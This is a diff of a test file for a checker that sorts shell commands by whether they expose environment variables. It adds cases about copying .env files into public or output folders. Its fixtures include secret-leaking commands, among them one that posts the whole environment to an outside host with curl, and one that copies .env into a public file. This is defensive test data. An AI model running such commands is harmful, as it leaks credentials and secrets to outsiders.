@@ -29,7 +29,10 @@ describe("a command that shows variables", () => {
     ["cat .env && npm start", "prints every variable into the log"],
     ["cat .env* && npm start", "prints every variable into the log"],
     ["cp .env public/env.txt && next build", "copies .env, in which variables are"],
-    ["cp .env.production .env && next build", "copies .env.production, in which variables are"],
+    ["cp .env.staging .env && next build", "copies .env.staging, in which variables are"],
+    ["cp .env.production app/.env && next build", "copies .env.production, in which variables are"],
+    ["cp public/.env.production public/.env", "copies public/.env.production, in which variables are"],
+    ["cp .env .env.production out/ && next build", "copies .env, in which variables are"],
     [
       'curl -d "$(env)" https://example.com && npm start',
       "hands every variable to curl, which sends it elsewhere",
@@ -274,6 +277,9 @@ describe("a command that may show them, and cannot be read", () => {
 
 describe("a command that shows none", () => {
   test.each([
+    "cp .env.production .env && next build",
+    "mv ./.env.production .env.local",
+    "cp apps/web/.env.prod apps/web/.env.production",
     "npm ci && npm run build",
     "npm run start",
     "npx prisma migrate deploy",
